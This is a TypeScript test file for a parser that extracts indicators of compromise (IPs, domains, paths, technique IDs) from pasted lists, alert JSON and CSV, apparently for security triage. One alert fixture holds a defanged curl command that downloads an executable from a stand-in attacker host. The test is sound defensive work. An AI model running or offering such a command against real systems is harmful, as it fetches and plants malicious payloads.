import fc from 'fast-check';
import { expect, test } from 'vitest';
import { pastedValues } from './pasted-values.ts';

const meant = (text: string) =>
  pastedValues(text)
    .filter(({ isMeant }) => isMeant)
    .map(({ sought }) => sought.value);
const all = (text: string) => pastedValues(text).map(({ sought }) => sought.value);

test('a list has a value on each line, whatever is written around it', () => {
  expect(
    meant(
      '203[.]0[.]113[.]77\r\n- evil.example\n\n"endpoint-za"\n* T1560.001,\n203.0.113.77:443\nCORP\\jdoe',
    ),
  ).toEqual(['203.0.113.77', 'evil.example', 'endpoint-za', 'T1560.001', 'CORP\\jdoe']);
  expect(meant('203.0.113.77, evil.example; 198.51.100.1')).toEqual([
    '203.0.113.77',
    'evil.example',
    '198.51.100.1',
  ]);
  expect(meant('C:\\Program Files\\7-Zip\\7z.exe')).toEqual(['C:\\Program Files\\7-Zip\\7z.exe']);
});

test('an alert as JSON gives its values, and each text as one that may be known', () => {
  const alert = JSON.stringify({
    Severity: 'High',
    Count: 4,
    Time: '2026-11-11T02:14:09Z',
    Entities: [{ Address: '203.0.113.77' }, { HostName: 'endpoint-za' }],
    ExtendedProperties: JSON.stringify({ CommandLine: 'curl hxxps://evil[.]example/a -o C:\\Temp\\a.exe' }),
  });
  for (const value of ['203.0.113.77', 'https://evil.example/a', 'C:\\Temp\\a.exe', 'a.exe'])
    expect(meant(alert)).toContain(value);
  expect(all(alert)).toContain('endpoint-za');
  expect(all(alert)).not.toContain('4');
  expect(meant(`{"a":"203.0.113.77"}\n{"a":"evil.example"}\n`)).toEqual(['203.0.113.77', 'evil.example']);
});

test('CSV is read by cells, quoted ones too, without its head', () => {
  const csv =
    'DeviceName,RemoteIP,Text\nws-1,203.0.113.77,"said ""x"", to evil[.]example"\nws-2,198.51.100.1,\n';
  expect(meant(csv)).toEqual(['203.0.113.77', 'evil.example', '198.51.100.1']);
  expect(all(csv)).toEqual(expect.arrayContaining(['ws-1', 'ws-2']));
  expect(all(csv)).not.toContain('DeviceName');
});

test('text gives what has a form', () => {
  expect(meant('At 10:04 the host called 203[.]0[.]113[.]77 and ran 7z.exe.')).toEqual([
    '203.0.113.77',
    '7z.exe',
  ]);
});

test('any text is read', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.json()), (text) => {
      expect(Array.isArray(pastedValues(text))).toBe(true);
    }),
  );
  expect(pastedValues('['.repeat(20_000))).toEqual([]);
});
